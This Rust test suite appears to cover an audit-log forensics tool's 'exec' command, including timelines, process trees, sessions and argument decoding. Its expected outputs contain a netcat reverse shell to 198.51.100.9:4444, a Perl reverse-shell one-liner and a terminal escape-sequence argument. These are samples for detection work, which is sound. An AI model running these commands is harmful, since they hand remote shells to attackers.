//! `ausift exec` end to end: the timeline, the process trees and the login sessions of the
//! samples in `testdata/exec/` (see testdata/README.md) and of the corpus files with process
//! traces; every option and format. Expected trees and argvs are stated by hand from the logs.

mod common;

use common::{assert_code, corpus_dir, jsonl, reference_tool, run, stderr_text, stdout_text};
use serde_json::Value;

fn sample(name: &str) -> String {
    common::testdata(&format!("exec/{name}"))
}

/// `ausift exec ARGS FILE`, status 0 required; stdout.
fn exec(args: &[&str], file: &str) -> String {
    let mut all = vec!["exec"];
    all.extend_from_slice(args);
    all.push(file);
    let output = run(&all);
    assert_code(&output, 0, &format!("exec {args:?} {file}"));
    stdout_text(&output)
}

/// The JSON Lines of `exec --format jsonl ARGS FILE`.
fn rows(args: &[&str], file: &str) -> Vec<Value> {
    let mut all = vec!["--format", "jsonl"];
    all.extend_from_slice(args);
    let text = exec(&all, file);
    jsonl(text.as_bytes())
}

/// The arguments as bytes (JSON writes bytes that are not UTF-8, and `%`, as `%XX`).
fn argv_bytes(row: &Value) -> Vec<Vec<u8>> {
    row["argv"]
        .as_array()
        .expect("argv is an array")
        .iter()
        .map(|a| unescape_percent(a.as_str().expect("argv holds strings")))
        .collect()
}

fn argv(row: &Value) -> Vec<String> {
    argv_bytes(row)
        .iter()
        .map(|a| String::from_utf8_lossy(a).into_owned())
        .collect()
}

fn unescape_percent(text: &str) -> Vec<u8> {
    let mut out = Vec::new();
    let bytes = text.as_bytes();
    let mut i = 0;
    while i < bytes.len() {
        match (bytes[i], text.get(i + 1..i + 3)) {
            (b'%', Some(hex)) if u8::from_str_radix(hex, 16).is_ok() => {
                out.push(u8::from_str_radix(hex, 16).unwrap());
                i += 3;
            }
            (b, _) => {
                out.push(b);
                i += 1;
            }
        }
    }
    out
}

fn argvs(rows: &[Value]) -> Vec<String> {
    rows.iter().map(|r| argv(r).join(" ")).collect()
}

fn lines(text: &str) -> Vec<&str> {
    text.lines().collect()
}

const SSH: &str = "ssh-session.log";

// ---------------------------------------------------------------------------------------------
// The timeline.

#[test]
fn the_text_view_reads_like_the_shell_session() {
    let text = exec(&["--format", "text"], &sample(SSH));
    assert_eq!(
        lines(&text),
        [
            "2023-11-26T11:26:41Z web01.example.net alice /home/alice$ -bash",
            "2023-11-26T11:27:30Z web01.example.net alice(root) /srv/app$ sudo bash",
            "2023-11-26T11:27:32Z web01.example.net alice(root) /srv/app$ bash",
            "2023-11-26T11:27:40Z web01.example.net 1001 /home/bob$ -bash",
            "2023-11-26T11:28:15Z web01.example.net alice(root) /srv/app$ nc -e /bin/sh 198.51.100.9 4444",
            "2023-11-26T11:28:20Z web01.example.net 1001 /home/bob$ ls -la /tmp",
            "2023-11-26T11:29:10Z web01.example.net root /$ /usr/sbin/logrotate /etc/logrotate.conf",
            "2023-11-26T11:30:00Z web01.example.net alice(root) /srv/app$ /tmp/.x  # ENOENT",
        ]
    );
}

#[test]
fn each_exec_row_names_its_parent_image_and_its_identities() {
    let rows = rows(&[], &sample(SSH));
    assert_eq!(rows.len(), 8);
    let nc = &rows[4];
    assert_eq!(argv(nc), ["nc", "-e", "/bin/sh", "198.51.100.9", "4444"]);
    assert_eq!(nc["exe"], "/usr/bin/nc.openbsd");
    assert_eq!(nc["cwd"], "/srv/app");
    assert_eq!(nc["auid_name"], "alice");
    assert_eq!(nc["uid_name"], "root");
    assert_eq!(
        (nc["pid"].as_u64(), nc["ppid"].as_u64()),
        (Some(4170), Some(4161))
    );
    assert_eq!(nc["ses"], 42);
    assert_eq!(nc["tty"], "pts1");
    assert_eq!(nc["keys"], serde_json::json!(["exec"]));
    assert_eq!(nc["parent"]["exe"], "/usr/bin/bash");
    assert_eq!(nc["parent"]["argv"], serde_json::json!(["bash"]));
    // sudo: the login user acts as root; bash's parent is the fork of sshd.
    assert_eq!(
        (rows[1]["uid_name"].as_str(), rows[1]["euid_name"].as_str()),
        (Some("alice"), Some("root"))
    );
    assert_eq!(rows[0]["parent"]["exe"], "/usr/sbin/sshd");
    assert_eq!(rows[0]["parent"]["argv"], serde_json::json!([]));
    // The failed exec names the file it tried, not the shell that tried it.
    let failed = &rows[7];
    assert_eq!(failed["success"], false);
    assert_eq!(failed["errno"], "ENOENT");
    assert_eq!(failed["exe"], "/tmp/.x");
    assert_eq!(failed["exit"], -2);
    // A daemon without a session.
    assert_eq!(rows[6]["ses"], Value::Null);
    assert_eq!(rows[6]["parent"], Value::Null);
}

#[test]
fn exec_filters_select_rows() {
    let file = sample(SSH);
    let failed = rows(&["--failed"], &file);
    assert_eq!(failed.len(), 1);
    assert_eq!(failed[0]["exe"], "/tmp/.x");
    assert_eq!(
        argvs(&rows(&["--argv", "nc .*-e"], &file)),
        ["nc -e /bin/sh 198.51.100.9 4444"]
    );
    let in_app = ["sudo bash", "bash", "nc -e /bin/sh 198.51.100.9 4444", ""];
    assert_eq!(argvs(&rows(&["--cwd", "/srv/app"], &file)), in_app);
    assert_eq!(argvs(&rows(&["--cwd", "/srv/"], &file)), in_app);
    assert_eq!(
        argvs(&rows(&["--cwd", "/home/bob", "--cwd", "/"], &file)).len(),
        8
    );
    let none = run(&["exec", "--cwd", "/srv/ap", &file]);
    assert_code(&none, 1, "--cwd /srv/ap matches no directory");
    assert!(none.stdout.is_empty());
    let bad = run(&["exec", "--argv", "(", &file]);
    assert_code(&bad, 2, "a bad regular expression");
    assert!(
        stderr_text(&bad).contains("--argv"),
        "{}",
        stderr_text(&bad)
    );
}

#[test]
fn every_search_filter_applies() {
    let file = sample(SSH);
    assert_eq!(
        argvs(&rows(&["--auid", "1001"], &file)),
        ["-bash", "ls -la /tmp"]
    );
    assert_eq!(rows(&["-x", "nc.openbsd"], &file).len(), 1);
    // The failed exec's SYSCALL names the shell that tried it: bash.
    assert_eq!(
        argvs(&rows(&["--not", "-x", "bash"], &file)),
        [
            "sudo bash",
            "nc -e /bin/sh 198.51.100.9 4444",
            "ls -la /tmp",
            "/usr/sbin/logrotate /etc/logrotate.conf"
        ]
    );
    assert_eq!(
        argvs(&rows(
            &[
                "--start",
                "2023-11-26T11:28:16Z",
                "--end",
                "2023-11-26T11:29:59Z"
            ],
            &file
        )),
        ["ls -la /tmp", "/usr/sbin/logrotate /etc/logrotate.conf"]
    );
    assert_eq!(rows(&["--success", "no"], &file).len(), 1);
    assert_eq!(rows(&["--euid", "0", "--uid", "1000"], &file).len(), 1);
    assert_eq!(
        rows(&["-n", "web01.example.net", "--ppid", "4161"], &file).len(),
        2
    );
}

#[test]
fn csv_has_a_header_and_one_record_per_exec() {
    let text = exec(&["--format", "csv", "--argv", "^nc "], &sample(SSH));
    let lines = lines(&text);
    assert_eq!(lines.len(), 2, "{text}");
    let header: Vec<&str> = lines[0].split(',').collect();
    let row: Vec<&str> = lines[1].split(',').collect();
    let field = |name: &str| row[header.iter().position(|h| *h == name).unwrap()];
    assert_eq!(field("time"), "2023-11-26T11:28:15.250Z");
    assert_eq!(field("event"), "1700998095.250:5028");
    assert_eq!(field("type"), "exec");
    assert_eq!(field("argv"), "nc -e /bin/sh 198.51.100.9 4444");
    assert_eq!(field("auid_name"), "alice");
    assert_eq!(field("result"), "ok");
    assert_eq!(field("parent_exe"), "/usr/bin/bash");
    assert_eq!(field("parent_argv"), "bash");
}

#[test]
fn tables_are_boxed_to_a_width_or_plain_columns_into_a_pipe() {
    let file = sample(SSH);
    let boxed = exec(&["--width", "80"], &file);
    assert!(boxed.lines().all(|l| l.chars().count() <= 80), "{boxed}");
    assert!(boxed.starts_with('┌'), "{boxed}");
    assert!(boxed.contains("4170"), "{boxed}");
    let wide = exec(&["--width", "200"], &file);
    assert!(wide.lines().all(|l| l.chars().count() <= 200), "{wide}");
    assert!(
        wide.contains(
            "┆ alice(root) ┆ 4170 ┆ 4161 ┆ ok     ┆ /srv/app    ┆ nc -e /bin/sh 198.51.100.9 4444 "
        ),
        "{wide}"
    );
    assert!(
        !wide.contains("EXE"),
        "the boxed table has fewer columns: {wide}"
    );
    let plain = exec(&[], &file);
    let plain = lines(&plain);
    assert_eq!(plain.len(), 9);
    assert!(plain[0].starts_with("TIME "), "{}", plain[0]);
    assert!(plain[0].ends_with(" PARENT"), "{}", plain[0]);
    assert!(plain[5].starts_with("2023-11-26T11:28:15.250Z  web01.example.net  42 "));
    assert!(
        plain[5].ends_with("nc -e /bin/sh 198.51.100.9 4444           bash"),
        "{}",
        plain[5]
    );
}

#[test]
fn times_are_shown_in_the_zone_asked_for() {
    let text = exec(
        &["--format", "text", "--tz", "+05:30", "--argv", "^nc"],
        &sample(SSH),
    );
    assert!(
        text.starts_with("2023-11-26T16:58:15+05:30 web01.example.net"),
        "{text}"
    );
}

#[test]
fn input_order_streams_rows_as_read() {
    let text = exec(
        &["--format", "text", "--sort", "input"],
        &sample("pid-reuse.log"),
    );
    let commands: Vec<&str> = text
        .lines()
        .map(|l| l.split("$ ").nth(1).unwrap())
        .collect();
    assert_eq!(
        commands,
        [
            "rm -f /tmp/a",
            "id",
            "awk '-F)' '{print $1}'",
            "sort -u",
            "sleep 5",
            "date",
            "true"
        ]
    );
}

#[test]
fn nothing_found_is_status_1_and_a_bad_combination_status_2() {
    let output = run(&["exec", "--argv", "no-such-program", &sample(SSH)]);
    assert_code(&output, 1, "no match");
    assert!(output.stdout.is_empty());
    let output = run(&["exec", "--ancestors", &sample(SSH)]);
    assert_code(&output, 2, "--ancestors without --pid");
    assert!(
        stderr_text(&output).contains("--pid"),
        "{}",
        stderr_text(&output)
    );
}

// ---------------------------------------------------------------------------------------------
// Process trees.

const CHAIN: [&str; 8] = [
    "1 (not in the log)",
    "└─ 812 root /usr/sbin/sshd (no exec in the log)",
    "   └─ 2023-11-26T11:26:40.100Z 4100 root /usr/sbin/sshd (fork)",
    "      └─ 2023-11-26T11:26:41.000Z 4150 1000(root) /usr/sbin/sshd (fork)",
    "         └─ 2023-11-26T11:26:41.110Z 4151 alice -bash",
    "            └─ 2023-11-26T11:27:30.010Z 4160 alice(root) sudo bash",
    "               └─ 2023-11-26T11:27:32.060Z 4161 alice(root) bash",
    "                  └─ 2023-11-26T11:28:15.250Z 4170 alice(root) nc -e /bin/sh 198.51.100.9 4444  *",
];

#[test]
fn the_chain_to_a_suspicious_command_is_one_view() {
    let file = sample(SSH);
    assert_eq!(
        lines(&exec(&["--pid", "4170", "--ancestors"], &file)),
        CHAIN
    );
    assert_eq!(lines(&exec(&["--tree", "--argv", "^nc "], &file)), CHAIN);
}

#[test]
fn descendants_include_forks_and_failed_execs() {
    let text = exec(&["--pid", "4161", "--descendants"], &sample(SSH));
    assert_eq!(
        lines(&text),
        [
            "2023-11-26T11:27:32.060Z 4161 alice(root) bash  *",
            "├─ 2023-11-26T11:28:15.250Z 4170 alice(root) nc -e /bin/sh 198.51.100.9 4444",
            "└─ 2023-11-26T11:30:00.000Z 4175 alice(root) bash (fork)",
            "   └─ 2023-11-26T11:30:00.005Z 4175 alice(root) /tmp/.x  # ENOENT",
        ]
    );
}

/// pid 500 runs rm, then (reused) is tcsh's subshell that starts id and becomes awk, then
/// (reused again, another parent) sleep; each child hangs under the holder of its ppid at the
/// time it started. A clone written after its child's exec does not hide the exec.
#[test]
fn a_reused_pid_is_a_new_process() {
    let file = sample("pid-reuse.log");
    assert_eq!(
        lines(&exec(&["--tree"], &file)),
        [
            "1 (not in the log)",
            "├─ 100 root /bin/sh (no exec in the log)",
            "│  └─ 2023-11-14T22:13:20.010Z 500 root rm -f /tmp/a",
            "├─ 200 1002 /bin/tcsh (no exec in the log)",
            "│  └─ 2023-11-14T22:23:20.000Z 500 1002 /bin/tcsh (fork)",
            "│     ├─ 2023-11-14T22:23:20.002Z 600 1002 id",
            "│     └─ 2023-11-14T22:23:20.003Z 500 1002 awk '-F)' '{print $1}'",
            "│        └─ 2023-11-14T22:25:00.000Z 700 1002 sort -u",
            "└─ 900 root /usr/sbin/cron (no exec in the log)",
            "   └─ 2023-11-14T22:28:20.010Z 910 root true",
            "      └─ 2023-11-14T22:28:20.020Z 911 root true (fork)",
            "300 (not in the log)",
            "└─ 2023-11-14T22:26:40.000Z 500 root sleep 5",
            "   └─ 2023-11-14T22:26:40.100Z 800 root date",
        ]
    );
    let rows = rows(&["--sort", "input"], &file);
    let parents: Vec<Value> = rows.iter().map(|r| r["parent"]["exe"].clone()).collect();
    assert_eq!(
        parents,
        [
            "/bin/sh",
            "/bin/tcsh",
            "/bin/tcsh",
            "/usr/bin/gawk",
            "",
            "/usr/bin/sleep",
            ""
        ]
        .map(|p| if p.is_empty() {
            Value::Null
        } else {
            Value::from(p)
        })
    );
}

#[test]
fn csv_and_jsonl_trees_give_ids_parents_and_depths() {
    let file = sample(SSH);
    let rows = rows(&["--pid", "4170", "--ancestors"], &file);
    assert_eq!(rows.len(), 8);
    let depths: Vec<u64> = rows.iter().map(|r| r["depth"].as_u64().unwrap()).collect();
    assert_eq!(depths, [0, 1, 2, 3, 4, 5, 6, 7]);
    for pair in rows.windows(2) {
        assert_eq!(pair[1]["parent"], pair[0]["id"]);
    }
    let kinds: Vec<&str> = rows.iter().map(|r| r["kind"].as_str().unwrap()).collect();
    assert_eq!(
        kinds,
        [
            "seen", "seen", "fork", "fork", "exec", "exec", "exec", "exec"
        ]
    );
    assert_eq!(rows[7]["selected"], true);
    assert_eq!(rows[6]["selected"], false);
    assert_eq!(rows[3]["pid"], 4150);
    assert_eq!(
        argv(&rows[7]),
        ["nc", "-e", "/bin/sh", "198.51.100.9", "4444"]
    );
    let csv = exec(&["--format", "csv", "--pid", "4170", "--ancestors"], &file);
    let csv = lines(&csv);
    assert_eq!(
        csv[0],
        "id,parent,depth,kind,time,event,node,pid,ppid,user,exe,argv,selected"
    );
    assert_eq!(csv.len(), 9);
    assert!(
        csv[8].ends_with(
            ",4170,4161,alice(root),/usr/bin/nc.openbsd,nc -e /bin/sh 198.51.100.9 4444,yes"
        ),
        "{}",
        csv[8]
    );
}

// ---------------------------------------------------------------------------------------------
// Sessions.

#[test]
fn a_users_session_shows_its_login_commands_and_end() {
    let text = exec(&["--user", "alice", "--format", "text"], &sample(SSH));
    let lines = lines(&text);
    assert_eq!(
        lines[0],
        "# session 42 on web01.example.net: alice from 198.51.100.7 on /dev/pts/1, \
         2023-11-26T11:26:40Z to 2023-11-26T11:33:20Z (15 events)"
    );
    assert_eq!(lines.len(), 16);
    assert!(lines[1].ends_with(" LOGIN ses=42: ok"), "{}", lines[1]);
    assert!(
        lines[2].ends_with(
            " USER_START PAM:session_open alice from 198.51.100.7 on ssh by /usr/sbin/sshd: ok"
        ),
        "{}",
        lines[2]
    );
    assert!(
        lines[3].contains(" USER_LOGIN login from 198.51.100.7 on /dev/pts/1 by"),
        "{}",
        lines[3]
    );
    assert!(lines.contains(&"2023-11-26T11:28:15Z web01.example.net alice(root) /srv/app$ nc -e /bin/sh 198.51.100.9 4444"));
    assert!(
        lines[15].contains(" USER_LOGOUT login from 198.51.100.7"),
        "{}",
        lines[15]
    );
    assert!(!text.contains("bob"), "{text}");
    assert_eq!(
        exec(&["--user", "1000", "--format", "text"], &sample(SSH)),
        text
    );
}

#[test]
fn sessions_by_number_in_jsonl_and_csv() {
    let file = sample(SSH);
    let rows = rows(&["--session", "43"], &file);
    assert_eq!(rows[0]["type"], "session");
    assert_eq!(rows[0]["user"], "bob");
    assert_eq!(rows[0]["addr"], "203.0.113.5");
    assert_eq!(rows[0]["terminal"], "/dev/pts/2");
    assert_eq!(rows[0]["events"], 6);
    let types: Vec<&str> = rows[1..]
        .iter()
        .map(|r| r["type"].as_str().unwrap())
        .collect();
    assert_eq!(
        types,
        [
            "LOGIN",
            "USER_START",
            "USER_LOGIN",
            "exec",
            "exec",
            "USER_END"
        ]
    );
    assert_eq!(argv(&rows[5]), ["ls", "-la", "/tmp"]);
    let csv = exec(&["--session", "43", "--format", "csv"], &file);
    assert_eq!(csv.lines().count(), 7);
    assert!(
        csv.lines()
            .nth(2)
            .unwrap()
            .contains(",USER_START,web01.example.net,43,")
    );
    let none = run(&["exec", "--user", "carol", &file]);
    assert_code(&none, 1, "no session of carol");
}

// ---------------------------------------------------------------------------------------------
// EXECVE records as the kernel writes them.

#[test]
fn interleaved_execve_records_stay_with_their_event() {
    let rows = rows(&["--sort", "input"], &sample("interleaved.log"));
    assert_eq!(
        argvs(&rows),
        [
            "uname -a",
            "hostname -f",
            "grep -E needle|haystack /var/log/syslog"
        ]
    );
    let cwds: Vec<&str> = rows.iter().map(|r| r["cwd"].as_str().unwrap()).collect();
    assert_eq!(cwds, ["/root", "/var/tmp", "/"]);
}

#[test]
fn an_argument_split_over_records_is_joined() {
    let rows = rows(&[], &sample("argv-split.log"));
    let long = format!("{}{}{}", "A".repeat(40), "B B ".repeat(10), "C".repeat(8));
    assert_eq!(argv(&rows[0]), ["python3", "-c", &long, "--verbose"]);
    assert_eq!(rows[0]["argc"], 4);
    assert_eq!(argv(&rows[1]), ["printf", "%s"]);
    assert_eq!(rows[1]["argc"], 3);
}

#[test]
fn hex_arguments_are_decoded_and_escaped_for_a_reader() {
    let file = sample("hex-args.log");
    let rows = rows(&[], &file);
    let expected: [&[u8]; 6] = [
        b"sh",
        b"-c",
        b"echo \"hi there\"",
        b"line1\nline2",
        b"\x1b]0;owned\x07",
        b"caf\xe9",
    ];
    assert_eq!(argv_bytes(&rows[0]), expected);
    assert_eq!(rows[0]["cwd"], "/srv/app dir");
    let text = exec(&["--format", "text"], &file);
    assert_eq!(
        text,
        "2023-11-14T23:03:20Z root /srv/app dir$ sh -c 'echo \"hi there\"' 'line1\\x0aline2' \
         '\\x1b]0;owned\\x07' caf\\xe9\n"
    );
    let table = exec(&[], &file);
    assert!(!table.bytes().any(|b| b == 0x1b || b == 0x07), "{table:?}");
    assert_eq!(table.lines().count(), 2);
    // CSV carries the bytes as they are, quoted where a line end is.
    let csv = run(&["exec", "--format", "csv", &file]);
    let raw = b"\"sh -c 'echo \"\"hi there\"\"' 'line1\nline2' '\x1b]0;owned\x07' caf\xe9\"";
    assert!(
        csv.stdout.windows(raw.len()).any(|w| w == raw),
        "{:?}",
        stdout_text(&csv)
    );
}

// ---------------------------------------------------------------------------------------------
// Corpus files with process traces.

const LAUREL: &str = "threathunters-io__laurel__src__testdata__";

fn corpus_file(test: &str, name: &str) -> Option<String> {
    let dir = corpus_dir(test)?;
    Some(dir.join(name).display().to_string())
}

#[test]
fn the_dpkg_trace_tree() {
    let Some(file) = corpus_file(
        "the_dpkg_trace_tree",
        &format!("{LAUREL}proc-trace-dpkg-l.txt"),
    ) else {
        return;
    };
    assert_eq!(
        lines(&exec(&["--tree"], &file)),
        [
            "1140356 (not in the log)",
            "└─ 1140452 1019 /usr/sbin/sshd (no exec in the log)",
            "   └─ 2026-05-09T19:40:33.149Z 1140453 1019 -bash",
            "      ├─ 2026-05-09T19:40:33.156Z 1140454 1019 /usr/bin/locale-check C.UTF-8",
            "      ├─ 2026-05-09T19:40:33.160Z 1140455 1019 locale",
            "      ├─ 2026-05-09T19:40:33.159Z 1140456 1019 -bash (fork)",
            "      ├─ 2026-05-09T19:40:33.185Z 1140457 1019 /bin/sh /usr/bin/lesspipe",
            "      │  ├─ 2026-05-09T19:40:33.188Z 1140458 1019 basename /usr/bin/lesspipe",
            "      │  └─ 2026-05-09T19:40:33.190Z 1140459 1019 /bin/sh /usr/bin/lesspipe (fork)",
            "      │     └─ 2026-05-09T19:40:33.191Z 1140460 1019 dirname /usr/bin/lesspipe",
            "      ├─ 2026-05-09T19:40:33.195Z 1140461 1019 dircolors -b",
            "      └─ 2026-05-09T19:40:36.725Z 1140462 1019 dpkg -l",
            "         └─ 2026-05-09T19:40:36.728Z 1140462 1019 dpkg-query --list --",
            "            └─ 2026-05-09T19:40:36.752Z 1140463 1019 sh -c -- pager",
            "               └─ 2026-05-09T19:40:36.754Z 1140464 1019 pager",
        ]
    );
}

#[test]
fn the_reordered_shell_trace_tree() {
    let Some(file) = corpus_file(
        "the_reordered_shell_trace_tree",
        &format!("{LAUREL}shell-proc-trace-reordered.txt"),
    ) else {
        return;
    };
    assert_eq!(
        lines(&exec(&["--tree"], &file)),
        [
            "3505 (not in the log)",
            "└─ 71432 1000 /usr/bin/bash (no exec in the log)",
            "   └─ 2023-04-27T15:24:05.526Z 71505 1000 /bin/sh ./src/testdata/double-fork/test-script.sh",
            "      ├─ 2023-04-27T15:24:05.530Z 71506 1000 /bin/sh ./src/testdata/double-fork/test-script.sh (fork)",
            "      │  ├─ 2023-04-27T15:24:05.530Z 71508 1000 /bin/echo foo",
            "      │  └─ 2023-04-27T15:24:05.534Z 71509 1000 /bin/sed -e s/foo/bar/",
            "      └─ 2023-04-27T15:24:05.530Z 71507 1000 grep baz",
        ]
    );
}

/// LAUREL takes `rm` (the pid's earlier holder) for the parent of `id`; the log says it is the
/// fork of tcsh that later became awk.
#[test]
fn the_confusion_trace_gives_id_its_real_parent() {
    let Some(file) = corpus_file(
        "the_confusion_trace_gives_id_its_real_parent",
        &format!("{LAUREL}shell-proc-trace-confusion.txt"),
    ) else {
        return;
    };
    assert_eq!(
        lines(&exec(&["--pid", "2656", "--ancestors"], &file)),
        [
            "2532 (not in the log)",
            "└─ 2023-10-12T06:18:46.189Z 2542 11178 -csh -c /tmp/REDACTED.csh",
            "   └─ 2023-10-12T06:18:46.357Z 2655 11178 -csh -c /tmp/REDACTED.csh (fork)",
            "      └─ 2023-10-12T06:18:46.357Z 2656 11178 id  *",
        ]
    );
    let rows = rows(&["--pid", "2656"], &file);
    assert_eq!(rows.len(), 1);
    assert_eq!(rows[0]["parent"]["exe"], "/bin/tcsh");
    assert_eq!(
        rows[0]["parent"]["argv"],
        serde_json::json!(["-csh", "-c", "/tmp/REDACTED.csh"])
    );
    // awk, exec'd later by the same subshell, is its sibling under the fork.
    let awk = rows_where(&rows_all(&file), "awk");
    assert_eq!(argv(&awk), ["awk", "-F)", "{print $1}"]);
    assert_eq!(awk["parent"]["exe"], "/bin/tcsh");
}

fn rows_all(file: &str) -> Vec<Value> {
    rows(&[], file)
}

fn rows_where(rows: &[Value], program: &str) -> Value {
    rows.iter()
        .find(|r| argv(r).first().map(String::as_str) == Some(program))
        .cloned()
        .unwrap_or_else(|| panic!("no exec of {program}"))
}

#[test]
fn the_perl_reverse_shell_argv() {
    let Some(file) = corpus_file(
        "the_perl_reverse_shell_argv",
        &format!("{LAUREL}record-perl-reverse-shell.txt"),
    ) else {
        return;
    };
    let text = exec(&["--format", "text"], &file);
    assert_eq!(
        text,
        "2021-07-18T12:29:23Z user(root) /root$ perl -e 'use Socket;$i=\"10.0.0.1\";$p=1234;\
         socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));if(connect(S,sockaddr_in($p,\
         inet_aton($i)))){open(STDIN,\">&S\");open(STDOUT,\">&S\");open(STDERR,\">&S\");\
         exec(\"/bin/sh -i\");};'\n"
    );
}

#[test]
fn the_long_execve_trace_joins_its_pieces() {
    let Some(file) = corpus_file(
        "the_long_execve_trace_joins_its_pieces",
        &format!("{LAUREL}record-execve-long.txt"),
    ) else {
        return;
    };
    let rows = rows(&[], &file);
    let argv = argv(&rows[0]);
    assert_eq!(argv.len(), 2);
    assert_eq!(argv[0], "/bin/echo");
    // a1_len=16384 hex digits: 8192 bytes, over three EXECVE records.
    assert_eq!(argv[1].len(), 8192);
    assert!(argv[1].starts_with("baaa"), "{}", &argv[1][..8]);
}

#[test]
fn the_otrf_atomic_tests() {
    let Some(arp) = corpus_file(
        "the_otrf_atomic_tests",
        "OTRF__Security-Datasets__datasets__atomic__linux__discovery__host__sh_arp_cache.zip__sh_arp_cache_2020-11-10074812.log",
    ) else {
        return;
    };
    assert_eq!(
        lines(&exec(&["--tree"], &arp)),
        [
            "29002 (not in the log)",
            "├─ 2020-11-10T07:48:16.155Z 1631 1000 arp -a",
            "└─ 2020-11-10T07:48:16.155Z 1632 1000 grep -v '^?'",
        ]
    );
    let dd = corpus_file(
        "the_otrf_atomic_tests",
        "OTRF__Security-Datasets__datasets__atomic__linux__defense_evasion__host__sh_binary_padding_dd.zip__sh_binary_padding_dd_2020-11-10081941.log",
    )
    .expect("the corpus is there");
    assert_eq!(argvs(&rows(&[], &dd)), ["dd if=/dev/zero bs=1 count=1"]);
}

/// Every execve and execveat event ausearch finds, and no other, is a row; over the whole
/// corpus (x86_64 events: ausearch resolves syscall names with this machine's table only).
#[test]
fn every_exec_ausearch_finds_is_a_row() {
    let Some(dir) = corpus_dir("every_exec_ausearch_finds_is_a_row") else {
        return;
    };
    let Some(ausearch) = reference_tool("ausearch", "every_exec_ausearch_finds_is_a_row") else {
        return;
    };
    let mut files = common::corpus_files(&dir);
    files.extend(
        [
            "ssh-session.log",
            "pid-reuse.log",
            "interleaved.log",
            "argv-split.log",
            "hex-args.log",
        ]
        .map(|f| std::path::PathBuf::from(sample(f))),
    );
    for file in files {
        let file = file.display().to_string();
        let mut expected = Vec::new();
        for syscall in ["execve", "execveat"] {
            let output = std::process::Command::new(&ausearch)
                .args(["-if", &file, "--arch", "x86_64", "-sc", syscall, "--raw"])
                .env("TZ", "UTC")
                .output()
                .expect("ausearch runs");
            expected.extend(
                common::event_ids(&output.stdout)
                    .into_iter()
                    .map(|(_, id)| id),
            );
        }
        expected.sort();
        expected.dedup();
        let output = run(&["exec", "--format", "jsonl", "--arch", "x86_64", &file]);
        assert!(
            common::code(&output) <= 1,
            "{file}: {}",
            stderr_text(&output)
        );
        let mut found: Vec<String> = jsonl(&output.stdout)
            .iter()
            .map(|r| r["event"].as_str().unwrap().to_string())
            .collect();
        found.sort();
        assert_eq!(found, expected, "{file}");
    }
}
